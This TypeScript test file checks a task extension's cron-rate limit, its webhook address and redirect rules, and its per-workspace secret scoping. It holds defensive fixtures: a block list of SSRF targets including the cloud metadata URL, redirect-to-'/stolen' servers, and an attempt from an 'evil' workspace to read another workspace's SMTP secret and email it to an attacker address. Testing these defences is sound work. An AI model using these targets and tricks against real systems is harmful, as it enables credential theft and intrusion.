import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { cronProblem } from '../../../src/core/chores/choreSchema';
import { parseChoresFile } from '../../../src/core/chores/choreFile';
import { sendEscalation } from '../../../src/core/chores/escalation';
import type { EscalationPayload } from '../../../src/core/chores/escalationPayload';
import { choreSecretKey, workspaceSecretScope } from '../../../src/core/chores/secretScope';
import { addressProblem } from '../../../src/core/chores/webhookAddress';
import { silentLogger } from '../../../src/core/ports';
import { startHttpReceiver } from '../../fixtures/escalationServers';
import type { HttpReceiver } from '../../fixtures/escalationServers';
import { attack } from './attackCount';

// A chore's cron floor, where its webhooks may post, and whose secrets it may use.

describe('cron: the shortest interval is one minute', () => {
  const tooOften = [
    '* * * * * *',
    '*/30 * * * * *',
    '0,30 * * * * *',
    '*/1 * * * * *',
    '0-59 * * * * *',
    '* * * * * * *',
    '*/10 * * * * * 2026',
    '  * * * * * *  ',
  ];
  const fine = ['* * * * *', '*/5 * * * *', '0 2 * * *', '0 * * * * *', '30 4 * * * 1', '@hourly', '@daily', '0 9 * * 1'];
  for (const pattern of tooOften) {
    it(`refuses "${pattern}"`, () => {
      const problem = cronProblem(pattern);
      assert.match(problem ?? '', /more than once a minute; the shortest interval is 1 minute/);
      attack(problem !== undefined);
    });
  }
  for (const pattern of fine) {
    it(`accepts "${pattern}"`, () => assert.equal(cronProblem(pattern), undefined));
  }

  it('an every-second cron is an error on its line, and only that chore is disabled', () => {
    const parsed = parseChoresFile(
      [
        'chores:',
        '  - id: ok',
        '    name: Fine',
        '    trigger: { cron: "* * * * *" }',
        '    prompt: p',
        '  - id: flood',
        '    name: Flood',
        '    trigger: { cron: "* * * * * *" }',
        '    prompt: p',
      ].join('\n'),
    );
    assert.deepEqual(
      parsed.chores.map((c) => c.id),
      ['ok'],
    );
    assert.deepEqual(parsed.disabled, ['flood']);
    const error = parsed.diagnostics.find((d) => d.severity === 'error');
    assert.equal(error?.line, 8);
    assert.match(error?.message ?? '', /once a minute/);
  });
});

describe('escalation webhooks: address and redirect rules', () => {
  const refused = [
    '169.254.169.254',
    '169.254.0.1',
    'fe80::1',
    'fe80::1%eth0',
    'febf::1',
    '0.0.0.0',
    '0.1.2.3',
    '::',
    '224.0.0.1',
    '239.255.255.250',
    '255.255.255.255',
    'ff02::1',
    '::ffff:169.254.169.254',
    '::ffff:a9fe:a9fe',
    '64:ff9b::169.254.169.254',
    '[fe80::1]',
    '::ffff:0.0.0.0',
  ];
  const allowed = ['127.0.0.1', '::1', '10.0.0.5', '192.168.1.10', '172.16.0.1', '8.8.8.8', '2001:db8::1', '::ffff:127.0.0.1', 'fec0::1'];
  for (const address of refused) {
    it(`refuses ${address}`, () => {
      const problem = addressProblem(address);
      assert.ok(problem, `${address} was allowed`);
      attack(problem !== undefined);
    });
  }
  for (const address of allowed) {
    it(`allows ${address}`, () => assert.equal(addressProblem(address), undefined));
  }

  const payload = {
    type: 'tasklane.chore_escalation',
    runId: 'run-1',
    chore: { id: 'c', name: 'C' },
    status: 'failed',
    reason: 'r',
  } as unknown as EscalationPayload;
  const options = { secrets: { getSecret: async () => undefined }, logger: silentLogger, timeoutMs: 3000 };

  it('never connects to a link-local or unspecified literal (the metadata service)', async () => {
    for (const url of [
      'http://169.254.169.254/latest/meta-data/',
      'http://[fe80::1]:8080/hook',
      'http://0.0.0.0:9/hook',
      'http://[::ffff:169.254.169.254]/x',
    ]) {
      const [result] = await sendEscalation({ webhook: { url } }, payload, options);
      assert.equal(result.ok, false, url);
      assert.match(result.error?.message ?? '', /refused: .*(link-local|unspecified)/, url);
      attack(!result.ok);
    }
  });

  describe('a local receiver that redirects to another local port', () => {
    let target: HttpReceiver;
    let redirector: http.Server;
    let redirectorUrl: string;
    let redirects = 0;
    before(async () => {
      target = await startHttpReceiver();
      redirector = http.createServer((req, res) => {
        redirects += 1;
        req.resume();
        const status = Number(new URL(req.url ?? '/', 'http://x').searchParams.get('status') ?? 307);
        res.writeHead(status, { location: `${target.baseUrl}/stolen` }).end();
      });
      await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
      redirectorUrl = `http://127.0.0.1:${(redirector.address() as AddressInfo).port}`;
    });
    after(async () => {
      await target.close();
      await new Promise((resolve) => redirector.close(resolve));
    });

    for (const status of [301, 302, 303, 307, 308]) {
      it(`${status}: the redirect is not followed and the run is told why`, async () => {
        const before = redirects;
        const [result] = await sendEscalation({ webhook: { url: `${redirectorUrl}/hook?status=${status}` } }, payload, options);
        assert.equal(redirects, before + 1, 'the first hop was reached (loopback is allowed)');
        assert.equal(target.requests.length, 0, 'the redirect target received the payload');
        assert.equal(result.ok, false);
        assert.match(result.error?.message ?? '', new RegExp(`redirect \\(${status}\\); redirects are not followed`));
        attack(target.requests.length === 0 && !result.ok);
      });
    }

    it('the same local receiver, answering 200, gets the payload (loopback stays allowed)', async () => {
      const [result] = await sendEscalation({ webhook: { url: `${target.baseUrl}/hook` } }, payload, options);
      assert.equal(result.ok, true, result.error?.message);
      assert.equal(target.requests.length, 1);
      assert.equal((target.requests[0].body as { runId: string }).runId, 'run-1');
      target.requests.length = 0;
    });

    it('a name that resolves to an allowed address posts (the lookup guard passes it through)', async () => {
      const [result] = await sendEscalation({ webhook: { url: `${target.baseUrl.replace('127.0.0.1', 'localhost')}/named` } }, payload, options);
      assert.equal(result.ok, true, result.error?.message);
      assert.equal(target.requests.at(-1)?.path, '/named');
      target.requests.length = 0;
    });
  });
});

describe('chore secrets are scoped to the workspace', () => {
  /** SecretStorage is one map for every window of the extension. */
  const storage = new Map<string, string>();
  const repoA = workspaceSecretScope('file:///home/me/work/project-a');
  const repoB = workspaceSecretScope('file:///home/me/downloads/cloned-evil');
  const secretsOf = (scope: string) => ({ getSecret: async (name: string) => storage.get(choreSecretKey(scope, name)) });

  it('a secret set in one workspace is invisible to another that names it', async () => {
    storage.set(choreSecretKey(repoA, 'ops-smtp'), 'smtps://alice:pw@smtp.victim.example:465');
    storage.set(choreSecretKey(repoA, 'team-slack'), 'https://hooks.slack.com/services/T/B/x');
    assert.equal(await secretsOf(repoA).getSecret('ops-smtp'), 'smtps://alice:pw@smtp.victim.example:465');
    for (const name of ['ops-smtp', 'team-slack', `${repoA}.ops-smtp`, `../${repoA}.ops-smtp`]) {
      const leaked = await secretsOf(repoB).getSecret(name);
      assert.equal(leaked, undefined, `workspace B read ${name}`);
      attack(leaked === undefined);
    }
    // The escalation in B fails naming the missing secret; nothing is sent.
    const [result] = await sendEscalation(
      { email: { to: ['attacker@evil.example'], smtpSecret: 'ops-smtp' } },
      { runId: 'r', chore: { id: 'c' } } as unknown as EscalationPayload,
      { secrets: secretsOf(repoB), logger: silentLogger },
    );
    assert.equal(result.ok, false);
    assert.match(result.error?.message ?? '', /secret "ops-smtp" .* is not set/);
    attack(!result.ok);
  });

  it('scopes are stable per workspace and distinct between workspaces (and from API keys)', () => {
    assert.equal(workspaceSecretScope('file:///home/me/work/project-a'), repoA);
    assert.notEqual(repoA, repoB);
    assert.match(choreSecretKey(repoA, 'x'), /^tasklane\.secret\.[0-9a-f]{16}\.x$/);
    assert.ok(!choreSecretKey(repoA, 'anthropic').startsWith('tasklane.apiKey.'));
  });
});
